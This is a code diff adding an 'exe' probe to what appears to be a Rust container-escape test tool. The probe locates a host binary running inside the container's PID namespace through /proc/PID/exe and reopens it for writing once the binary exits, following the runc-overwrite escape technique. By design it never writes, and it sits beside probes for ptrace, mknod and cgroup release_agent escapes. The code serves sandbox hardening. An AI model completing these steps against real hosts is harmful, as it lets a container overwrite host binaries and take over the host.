@@ -22,6 +22,9 @@
 //!                      and read it
 //!   mknod MAJ MIN      make a block device node, open it, read one sector
 //!   ptrace PID         PTRACE_ATTACH to PID, then detach at once
+//!   exe                wait for a host binary to run in this PID namespace
+//!                      (as `runc exec` did), open it through /proc/PID/exe,
+//!                      and once it exits, reopen it for writing (never written)
 //!   release-agent      a new user, mount and cgroup namespace, a cgroup v1
 //!                      hierarchy mounted (rdma, freezer, cpuset, ...), release_agent opened for writing
 //!                      (never written)
@@ -46,6 +49,7 @@ const SYS_READ: u64 = 0;
 const SYS_OPEN: u64 = 2;
 const SYS_CLOSE: u64 = 3;
 const SYS_NANOSLEEP: u64 = 35;
+const SYS_GETPID: u64 = 39;
 const SYS_WAIT4: u64 = 61;
 const SYS_CHDIR: u64 = 80;
 const SYS_FCHDIR: u64 = 81;
@@ -59,6 +63,7 @@ const SYS_UNSHARE: u64 = 272;
 
 const O_RDONLY: u64 = 0;
 const O_WRONLY: u64 = 1;
+const O_PATH: u64 = 0o10000000;
 const S_IFBLK: u64 = 0o060000;
 const KEY_SPEC_SESSION_KEYRING: u64 = (-3i64) as u64;
 const KEYCTL_SEARCH: u64 = 10;
@@ -115,6 +120,7 @@ fn run(args: &Args) -> i32 {
             None => usage(),
         },
         (b"release-agent", _, _) => release_agent(),
+        (b"exe", _, _) => exe(),
         (b"all", _, _) => all(),
         (b"sleep", Some(s), _) => match parse_u64(s) {
             Some(s) => sleep_ms(s * 1000),
@@ -127,7 +133,7 @@ fn run(args: &Args) -> i32 {
 fn usage() -> i32 {
     let mut l = Line::new();
     l.push(b"usage: virtlab-attacker chroot PATH | fd PATH | sysrq | keyctl DESC | mknod MAJ MIN | ptrace PID |");
-    l.push(b" release-agent | all | sleep SECONDS\n");
+    l.push(b" exe | release-agent | all | sleep SECONDS\n");
     l.flush(2);
     2
 }
@@ -141,6 +147,7 @@ fn all() -> i32 {
     keyctl(b"virtlab-lab-secret");
     mknod(254, 0);
     ptrace(1);
+    exe();
     release_agent();
     0
 }
@@ -304,6 +311,49 @@ fn ptrace(pid: u64) -> i32 {
     l.push(b": its memory and registers were the attacker's (detached at once)\n");
     l.flush(1);
     0
+}
+
+fn exe() -> i32 {
+    let name = b"exe";
+    // Find another process's executable: a host binary that entered this
+    // PID namespace (the container's own command is PID 1).
+    let mut fd = -2;
+    // SAFETY: getpid has no arguments.
+    let me = unsafe { sys(SYS_GETPID, 0, 0, 0) } as u64;
+    'search: for _ in 0..500 {
+        for pid in (2..64u64).filter(|&p| p != me) {
+            let mut path = Line::new();
+            path.push(b"/proc/").num(pid).push(b"/exe\0");
+            // SAFETY: a NUL-terminated path; O_PATH opens no file for I/O.
+            let r = unsafe { sys(SYS_OPEN, path.buf.as_ptr() as u64, O_PATH, 0) };
+            if r >= 0 || r == -13 || r == -1 {
+                fd = r;
+                break 'search;
+            }
+        }
+        sleep_ms(10);
+    }
+    if fd < 0 {
+        return blocked(name, if fd == -2 { b"find_process" } else { b"open_exe" }, fd);
+    }
+    // The binary cannot be opened for writing while it runs (ETXTBSY):
+    // wait until it exits, then reopen the file through the O_PATH fd.
+    let mut path = Line::new();
+    path.push(b"/proc/self/fd/").num(fd as u64).push(b"\0");
+    let mut r = -26;
+    for _ in 0..500 {
+        // SAFETY: a NUL-terminated path.
+        r = unsafe { sys(SYS_OPEN, path.buf.as_ptr() as u64, O_WRONLY, 0) };
+        if r != -26 {
+            break;
+        }
+        sleep_ms(10);
+    }
+    if r < 0 {
+        return blocked(name, b"reopen_for_writing", r);
+    }
+    close(r);
+    reached(name, b"the host binary that ran in the container is open for writing: the next run of it on the host would run the attacker's code (not written)")
 }
 
 fn release_agent() -> i32 {
